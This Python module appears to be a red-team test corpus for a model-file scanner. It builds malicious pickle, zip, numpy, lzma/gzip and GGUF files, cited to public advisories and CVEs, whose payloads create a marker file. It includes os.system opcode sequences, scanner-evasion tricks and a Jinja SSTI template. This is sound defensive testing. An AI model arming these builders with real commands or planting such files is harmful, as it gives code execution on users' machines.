"""Red team round 2: techniques gathered from public attack corpora, each a file whose payload only
creates a marker file, with the loader that runs it (tests/test_scan_redteam_corpus.py).

Sources (each technique names its own):

- picklescan's test generators, mmaitre314/picklescan tests/init_data_files.py (commit 01d97bc8):
  the GHSA-… gadgets of 2025-2026 (``pip.main``, ``uuid._get_command_stdout``, ``pkgutil.resolve_name``,
  ``profile``, ``_operator``, ``idlelib``/``lib2to3`` evaluators, ``ensurepip._run_pip``,
  ``distutils.file_util.write_file``, ``io.FileIO``, ``logging.FileHandler``,
  ``torch.jit.unsupported_tensor_ops.execWrapper``), ``keyerror-exploit.pkl`` and
  ``type-confusion-exploit.pkl`` (a payload before an error), ``malicious-invalid-bytes.pkl`` (bytes
  after STOP), ``malicious23.pkl`` (GHSA-9gvj-pp9x-gcfr: STRING feeding STACK_GLOBAL without PROTO),
  ``malicious1_0x1/0x20/0x40.zip`` (general purpose flag bits), ``malicious1_central_directory.zip``,
  ``malicious1_crc.zip`` (CVE-2025-10156), ``malicious1_wrong_ext.zip``, a pickle named ``.bin``
  (CVE-2025-10155);
- ReversingLabs "nullifAI" (2025-02): a payload at the start of a pickle that is broken right after it;
- joblib's and CPython's compressed-file detection (joblib ``compressor.py`` prefixes: ``]\\x00`` for
  lzma; ``lzma.open``'s FORMAT_AUTO takes any .lzma header liblzma's picky check accepts);
- numpy's ``numpy.load`` (``_ZIP_SUFFIX`` ``PK\\x05\\x06`` opens an archive; ``NpzFile`` reads a member
  with the .npy magic whatever its name; .npy version 3.0 headers).
"""

from __future__ import annotations

import lzma
import pickle
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from builders.pickle_opcodes import call, cmd, code, glob, p4, su, system_p0, zip_of

PICKLESCAN = "picklescan tests/init_data_files.py"

# --- the loaders (child processes; argv[1] is the file) -------------------------------------------

LOAD = "import pickle, sys; pickle.load(open(sys.argv[1], 'rb'))"
LOAD_MEMBERS = ("import pickle, sys, zipfile; z = zipfile.ZipFile(sys.argv[1])\n"
                "for n in z.namelist():\n"
                "    try: pickle.loads(z.read(n))\n"
                "    except Exception: pass")
LOAD_STREAMING = ("import pickle, struct, sys, zlib; d = open(sys.argv[1], 'rb').read(); "
                  "f = struct.unpack_from('<4sHHHHHIIIHH', d); s = 30 + f[9] + f[10]; "
                  "raw = d[s:s + f[7]]; "
                  "pickle.loads(raw if f[3] == 0 else zlib.decompress(raw, -15))")  # the first local header
TORCH_LOAD = "import sys, torch; torch.load(sys.argv[1], weights_only=False)"
JOBLIB_LOAD = "import joblib, sys; joblib.load(sys.argv[1])"
LZMA_LOAD = "import lzma, pickle, sys; pickle.load(lzma.open(sys.argv[1]))"
GZIP_LOAD = "import gzip, pickle, sys; pickle.load(gzip.open(sys.argv[1]))"
NUMPY_LOAD = ("import numpy, sys; z = numpy.load(sys.argv[1], allow_pickle=True)\n"
              "for k in getattr(z, 'files', ()): z[k]")


@dataclass(frozen=True)
class Technique:
    id: str
    source: str
    build: Callable[[Path, Path], None]
    loader: str
    suffix: str = ".pkl"
    slow: bool = False  # the control imports torch


T: list[Technique] = []


def technique(id: str, source: str, loader: str = LOAD, suffix: str = ".pkl", slow: bool = False,
              ) -> Callable[[Callable[[Path, Path], None]], Callable[[Path, Path], None]]:
    def register(build: Callable[[Path, Path], None]) -> Callable[[Path, Path], None]:
        T.append(Technique(id, source, build, loader, suffix, slow))
        return build
    return register


def data_technique(id: str, source: str, data: Callable[[Path], bytes], loader: str = LOAD,
                   suffix: str = ".pkl", slow: bool = False) -> None:
    def build(path: Path, marker: Path) -> None:
        path.write_bytes(data(marker))
    T.append(Technique(id, source, build, loader, suffix, slow))


# --- opcode helpers -------------------------------------------------------------------------------

def _set_flags(raw: bytes, bits: int) -> bytes:
    """OR ``bits`` into every local and central header's general purpose flags."""
    out = bytearray(raw)
    for sig, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        pos = out.find(sig)
        while pos >= 0:
            flags = struct.unpack_from("<H", out, pos + at)[0]
            struct.pack_into("<H", out, pos + at, flags | bits)
            pos = out.find(sig, pos + 4)
    return bytes(out)


def exec_pickle(marker: Path) -> bytes:
    """``builtins.exec`` of code creating the marker, protocol 4 (picklescan's Malicious1, made live)."""
    return p4(call(glob("builtins", "exec"), su(code(marker))))


# --- globals from picklescan's 2025-2026 advisories: an allow list names each unknown ---------------

def pip_main(marker: Path) -> bytes:
    # `pip --log FILE list` writes FILE (CVE-2025-1716: the same pip.main installs any package)
    return p4(call(glob("pip", "main"), b"(" + su("--log") + su(str(marker)) + su("list") + b"l"))


data_technique("pip.main", f"CVE-2025-1716; {PICKLESCAN} Malicious16", pip_main, slow=True)  # pip: 2.5 s
data_technique("uuid._get_command_stdout", f"GHSA-g38g-8gr9-h9xp; {PICKLESCAN}",
               lambda m: p4(call(glob("uuid", "_get_command_stdout"), su("touch"), su(str(m)))))
data_technique("pkgutil.resolve_name", f"GHSA-vvpj-8cmc-gx39; {PICKLESCAN}",
               lambda m: p4(call(call(glob("pkgutil", "resolve_name"), su("os:system")), su(cmd(m)))))
data_technique("profile.run", f"GHSA-7wx9-6375-f5wh / GHSA-x696-vm39-cp64; {PICKLESCAN}",
               lambda m: p4(call(glob("profile", "run"), su(code(m)))))
data_technique("_operator.attrgetter", f"GHSA-955r-x9j8-7rhh / GHSA-46h3-79wf-xr6c; {PICKLESCAN}",
               lambda m: p4(call(call(call(glob("_operator", "attrgetter"), su("system")),
                                      call(glob("builtins", "__import__"), su("os"))), su(cmd(m)))))
data_technique("idlelib.calltip.get_entity", f"GHSA-9xph-j2h6-g47v; {PICKLESCAN}",
               lambda m: p4(call(glob("idlelib.calltip", "get_entity"),
                                 su(f"__import__('os').system({cmd(m)!r})"))))
data_technique("lib2to3-ParserGenerator.make_label", f"GHSA-p9w7-82w4-7q8m; {PICKLESCAN}",
               lambda m: p4(call(glob("lib2to3.pgen2.pgen", "ParserGenerator.make_label"), b"N",
                                 # a grammar-like object: argparse.Namespace(labels=[])
                                 call(glob("argparse", "Namespace")) + b"}" + su("labels") + b"]sb",
                                 su('""+' + f"__import__('os').system({cmd(m)!r})"))))
data_technique("ensurepip._run_pip", f"GHSA-xp4f-hrf8-rxw7; {PICKLESCAN}",
               lambda m: p4(call(glob("ensurepip", "_run_pip"), su(f"__import__('os').system({cmd(m)!r})"))))
data_technique("distutils.file_util.write_file", f"GHSA-m273-6v24-x4m4; {PICKLESCAN}",
               lambda m: p4(call(glob("distutils.file_util", "write_file"), su(str(m)), b"]")))
data_technique("io.FileIO", f"{PICKLESCAN} io_FileIO.pkl (opens any file; here creates one)",
               lambda m: p4(call(glob("io", "FileIO"), su(str(m)), su("w"))))
data_technique("logging.FileHandler", f"{PICKLESCAN} logging_FileHandler.pkl",
               lambda m: p4(call(glob("logging", "FileHandler"), su(str(m)))))
data_technique("torch.jit.unsupported_tensor_ops.execWrapper", f"GHSA-vr7h-p6mm-wpmh; {PICKLESCAN}",
               lambda m: p4(call(glob("torch.jit.unsupported_tensor_ops", "execWrapper"), su(code(m)),
                                 b"}", b"}")), slow=True)
data_technique("pickle-named-pytorch_model.bin", "CVE-2025-10155 (JFrog: a pickle with a PyTorch "
               "extension)", exec_pickle, TORCH_LOAD, suffix=".bin", slow=True)


# --- a payload, then an error: the unpickler has run it already ------------------------------------

def keyerror(marker: Path) -> bytes:
    return (b"\x80\x04cos\nsystem\nV" + cmd(marker).encode() + b"\n\x85R0" + su("os") + b"\x94h\x03h\x00"
            b"\x93K\x42.")


def type_confusion(marker: Path) -> bytes:
    return (b"\x80\x04cos\nsystem\nV" + cmd(marker).encode() + b"\n\x85R0J\x2a\x00\x00\x00\x94" + su("os")
            + b"\x94h\x00h\x01\x93K\x42.")


def invalid_bytes(marker: Path) -> bytes:
    """A protocol 0 stream: UNICODE lines memoized by PUT, fetched by GET into STACK_GLOBAL, then
    bytes after STOP that are no pickle."""
    return (b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(V" + cmd(marker).encode()
            + b"\ntR.\n\n\t\t")


def string_stack_global(marker: Path) -> bytes:
    return b"S'posix'\nS'system'\n\x93S'" + cmd(marker).encode() + b"'\n\x85R."


def nullifai(marker: Path) -> bytes:
    """The payload first, then a BINUNICODE whose length runs past the end: pickle.load raises after
    os.system ran (ReversingLabs: nullifAI's broken pickles)."""
    return b"\x80\x02" + system_p0(marker)[:-1] + b"0X\xff\xff\xff\x7f" + b"\x00" * 8


data_technique("payload-then-missing-memo-key", f"{PICKLESCAN} keyerror-exploit.pkl", keyerror)
data_technique("payload-then-STACK_GLOBAL-type-confusion", f"{PICKLESCAN} type-confusion-exploit.pkl",
               type_confusion)
data_technique("memo-STACK_GLOBAL-then-bytes-after-STOP", f"{PICKLESCAN} malicious-invalid-bytes.pkl",
               invalid_bytes)
data_technique("STRING-STACK_GLOBAL-without-PROTO", f"GHSA-9gvj-pp9x-gcfr; {PICKLESCAN} malicious23.pkl",
               string_stack_global)
data_technique("nullifAI-broken-pickle", "ReversingLabs nullifAI (2025-02): payload, then a broken stream",
               nullifai)


@technique("nullifAI-broken-data.pkl-in-torch-zip", "ReversingLabs nullifAI: the broken pickle in a "
           "torch archive", TORCH_LOAD, ".pt", slow=True)
def nullifaizip_of(path: Path, marker: Path) -> None:
    path.write_bytes(zip_of({"archive/data.pkl": nullifai(marker), "archive/version": b"3\n",
                           "archive/byteorder": b"little"}))


# --- zip archives (picklescan's zip fixtures; JFrog CVE-2025-10156) --------------------------------

def _flaggedzip_of(bits: int) -> Callable[[Path, Path], None]:
    def build(path: Path, marker: Path) -> None:
        path.write_bytes(_set_flags(zip_of({"archive/data.pkl": exec_pickle(marker)}), bits))
    return build


for _bits, _what in ((0x1, "encrypted"), (0x20, "compressed patched data"), (0x40, "strong encryption")):
    T.append(Technique(f"zip-flag-0x{_bits:x}-{_what.replace(' ', '-')}",
                       f"{PICKLESCAN} malicious1_0x{_bits:x}.zip (a streaming unzip ignores the flag)",
                       _flaggedzip_of(_bits), LOAD_STREAMING, ".pt"))


@technique("zip-central-directory-renames-data.pkl", f"{PICKLESCAN} malicious1_central_directory.zip",
           LOAD_STREAMING, ".pt")
def zip_central_rename(path: Path, marker: Path) -> None:
    raw = zip_of({"data.pkl": exec_pickle(marker)})
    cd = raw.rfind(b"PK\x01\x02")
    path.write_bytes(raw[:cd] + raw[cd:].replace(b"data.pkl", b"datap.kl", 1))


@technique("zip-crc-mismatch", f"CVE-2025-10156 (JFrog); {PICKLESCAN} malicious1_crc.zip", TORCH_LOAD,
           ".pt", slow=True)
def zip_crc(path: Path, marker: Path) -> None:
    good = exec_pickle(marker)
    raw = zip_of({"archive/data.pkl": good, "archive/version": b"3\n", "archive/byteorder": b"little"})
    pos = raw.find(b"PK\x01\x02")  # the central record of data.pkl: its CRC (offset 16), and the local's
    crc = struct.unpack_from("<I", raw, pos + 16)[0] ^ 0x5A5A5A5A
    out = bytearray(raw)
    struct.pack_into("<I", out, pos + 16, crc)
    struct.pack_into("<I", out, 14, crc)
    path.write_bytes(bytes(out))


@technique("zip-pickle-member-named-.txt", f"{PICKLESCAN} malicious1_wrong_ext.zip", LOAD_MEMBERS, ".zip")
def zip_wrong_ext(path: Path, marker: Path) -> None:
    path.write_bytes(zip_of({"data.txt": exec_pickle(marker)}))


# --- numpy ----------------------------------------------------------------------------------------

def _object_npy(marker: Path, version: tuple[int, int] = (1, 0)) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    body = pickle.dumps([0], protocol=2)[:-1] + b"0" + system_p0(marker)
    if version == (1, 0):
        pad = -(10 + len(header) + 1) % 64
        h = (header + " " * pad + "\n").encode("latin-1")
        return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h + body
    pad = -(12 + len(header) + 1) % 64
    h = (header + " " * pad + "\n").encode("utf-8")
    return b"\x93NUMPY" + bytes(version) + struct.pack("<I", len(h)) + h + body


data_technique("npy-version-3.0-object-array", "numpy.lib.format: version 3.0 (utf-8 header)",
               lambda m: _object_npy(m, (3, 0)), NUMPY_LOAD, suffix=".npy")


@technique("npz-member-without-.npy-suffix", "numpy NpzFile.__getitem__: any member with the .npy magic "
           "is read_array'd", NUMPY_LOAD, ".npz")
def npz_no_suffix(path: Path, marker: Path) -> None:
    path.write_bytes(zip_of({"weights": _object_npy(marker)}))


@technique("numpy-empty-zip-record-first", "numpy.load opens a file starting PK\\x05\\x06 (_ZIP_SUFFIX) "
           "as an archive; zipfile finds the real one from the end", NUMPY_LOAD, ".npz")
def npz_eocd_first(path: Path, marker: Path) -> None:
    path.write_bytes(b"PK\x05\x06" + b"\x00" * 18 + zip_of({"w.npy": _object_npy(marker)}))


# --- compression ------------------------------------------------------------------------------------

def _lzma_alone(data: bytes, **filt: int) -> bytes:
    return lzma.compress(data, format=lzma.FORMAT_ALONE, filters=[{"id": lzma.FILTER_LZMA1, **filt}])


@technique("joblib-lzma-small-dictionary", "joblib compressor.py: any file starting ]\\x00 is lzma "
           "(a 4 KiB dictionary makes the third byte 0x10)", JOBLIB_LOAD, ".joblib")
def joblib_lzma(path: Path, marker: Path) -> None:
    path.write_bytes(_lzma_alone(system_p0(marker), dict_size=4096))


@technique("lzma-alone-other-properties", "lzma.open (FORMAT_AUTO) reads any .lzma header liblzma's "
           "alone decoder accepts (lc/lp/pb other than 3/0/2)", LZMA_LOAD, ".pkl.lzma")
def lzma_props(path: Path, marker: Path) -> None:
    path.write_bytes(_lzma_alone(system_p0(marker), lc=0, lp=0, pb=0))


@technique("zlib-joblib-level-1", "joblib compressor.py: zlib prefix x (any zlib header)", JOBLIB_LOAD,
           ".joblib")
def joblib_zlib(path: Path, marker: Path) -> None:
    path.write_bytes(zlib.compress(system_p0(marker), 1))


# --- GGUF chat templates (Jinja SSTI: CVE-2024-34359 llama-cpp-python < 0.2.72; CVE-2026-5760 SGLang) ---

# what llama-cpp-python 0.2.71's Jinja2ChatFormatter did with tokenizer.chat_template (an unsandboxed
# jinja2.Environment), on the template gguf-py reads from the file: it runs when a chat is formatted
JINJA_RENDER = ("import sys, jinja2; from gguf import GGUFReader\n"
                "f = GGUFReader(sys.argv[1]).fields['tokenizer.chat_template']\n"
                "t = bytes(f.parts[f.data[0]]).decode()\n"
                "jinja2.Environment(loader=jinja2.BaseLoader(), trim_blocks=True, lstrip_blocks=True)"
                ".from_string(t).render(messages=[{'role': 'user', 'content': 'hi'}])")


def ssti_template(marker: Path) -> str:
    """CVE-2024-34359's payload shape: from a Jinja global to os through __globals__."""
    return ("{{ lipsum.__globals__['os'].popen(" + repr(cmd(marker)) + ").read() }}"
            "{% for message in messages %}{{ message['content'] }}{% endfor %}")


def gguf_with_template(path: Path, template: str) -> None:
    import numpy as np
    from gguf import GGUFWriter

    w = GGUFWriter(path, "llama")
    w.add_chat_template(template)
    w.add_tensor("token_embd.weight", np.zeros((4, 8), dtype=np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()


GGUF_SSTI = Technique("gguf-chat-template-ssti", "CVE-2024-34359 (llama-cpp-python < 0.2.72), "
                      "CVE-2026-5760 (SGLang): a Jinja chat template rendered unsandboxed",
                      lambda path, marker: gguf_with_template(path, ssti_template(marker)), JINJA_RENDER,
                      ".gguf")


def _gzip_with_header(marker: Path, flags: int, fields: bytes) -> bytes:
    """A gzip member of the payload whose header has ``flags`` OR-ed in and ``fields`` after it."""
    import gzip

    raw = gzip.compress(system_p0(marker), mtime=0)
    return raw[:3] + bytes([raw[3] | flags]) + raw[4:10] + fields + raw[10:]


data_technique("gzip-header-crc-wrong", "CPython gzip.py _read_gzip_header reads FHCRC and never checks it "
               "(zlib's gzip reader refuses the member)", lambda m: _gzip_with_header(m, 0x02, b"\x00\x00"),
               GZIP_LOAD, suffix=".pkl.gz")
data_technique("gzip-reserved-flag-bits", "CPython gzip.py ignores reserved FLG bits (zlib refuses them)",
               lambda m: _gzip_with_header(m, 0xE0, b""), GZIP_LOAD, suffix=".pkl.gz")
data_technique("gzip-extra-name-comment", "gzip FEXTRA/FNAME/FCOMMENT header fields (RFC 1952 2.3.1)",
               lambda m: _gzip_with_header(m, 0x1C, b"\x03\x00abc" + b"name\x00" + b"comment\x00"),
               GZIP_LOAD, suffix=".pkl.gz")
